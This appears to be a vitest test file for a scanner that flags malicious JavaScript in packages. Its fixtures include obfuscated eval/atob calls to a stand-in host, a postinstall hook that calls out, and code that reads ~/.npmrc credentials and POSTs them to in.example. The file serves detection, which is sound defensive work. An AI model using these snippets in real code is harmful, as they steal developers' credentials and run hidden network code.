import { expect, it } from 'vitest';
import { reportOn } from '../../testing/rule-checks.ts';

const encoded = (text: string) => JSON.stringify(btoa(text));

it.each([
  ['a literal', `eval("fetch('https://in.example/')");`],
  ['a decoded text', `eval(atob(${encoded("fetch('https://in.example/')")}));`],
  ['a function body', `new Function('a', "return fetch('https://in.example/')")();`],
  ['a text within a text', `eval(${JSON.stringify(`eval("fetch('https://in.example/')")`)});`],
  [
    'a list that is filled piece by piece',
    `const a = ["fetch('https://in"]; eval(a.concat([".example/')"]).join(''));`,
  ],
])('what %s does when it is evaluated counts, at the place of the call', async (_, source) => {
  const { events } = await reportOn({ 'a.js': `\n${source}\n` }, null);
  expect(events).toContainEqual(
    expect.objectContaining({
      kind: 'net',
      values: ['in.example:443'],
      at: expect.objectContaining({ file: 'a.js', line: 2 }),
    }),
  );
});

it('a program on the command line of an install script is analysed, that of another script is not', async () => {
  const command = `node -e "fetch('https://in.example/')"`;
  const events = async (name: string) =>
    (await reportOn({ 'package.json': JSON.stringify({ scripts: { [name]: command } }) }, null)).events.filter(
      ({ kind, confidence }) => kind === 'net' && confidence === 'high',
    );
  expect(await events('postinstall')).toMatchObject([{ values: ['in.example:443'], at: { file: 'package.json' } }]);
  expect(await events('test')).toEqual([]);
});

it('texts that evaluate themselves for ever come to an end', async () => {
  const source = "const s = 'eval(s + s)';\nfunction f(t) { eval(t); f(t + t); }\nf(s);\n";
  expect((await reportOn({ 'a.js': source }, null)).findings.length).toBeGreaterThan(0);
});

it('a text that is no program is none', async () => {
  const { findings } = await reportOn({ 'a.js': 'eval("this is no program (");\n' }, null);
  expect(findings.map(({ ruleId }) => ruleId)).toEqual(['no-eval']);
});

const send = "fetch('https://in.example/', { method: 'POST', body: data });";
const read = "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')";
it.each([
  ['a list', { 'a.js': `const all = []; all.push(${read}); const data = all.join(','); ${send}` }],
  ['a map', { 'a.js': `const all = new Map(); all.set('k', ${read}); const data = JSON.stringify([...all]); ${send}` }],
  [
    'an exported function of another file',
    {
      'a.js': `const { ship } = require('./b'); ship(${read});`,
      'b.js': `exports.ship = function (data) { ${send} };`,
    },
  ],
  [
    'what another file exports as a whole',
    { 'a.js': `const ship = require('./b'); ship(${read});`, 'b.js': `module.exports = function (data) { ${send} };` },
  ],
])('credentials reach a request through %s', async (_, files) => {
  const { findings } = await reportOn(files, null);
  expect(findings).toContainEqual(expect.objectContaining({ ruleId: 'credential-theft', severity: 'critical' }));
});

it('what an awaited request throws comes from the network', async () => {
  const run = (awaited: string) =>
    reportOn({ 'a.js': `(async () => { try { ${awaited} } catch (e) { eval(e.response.data); } })();\n` }, null);
  expect((await run("await require('axios').get('https://in.example/')")).decision).toBe('block');
  expect((await run('await run()')).decision).not.toBe('block');
});
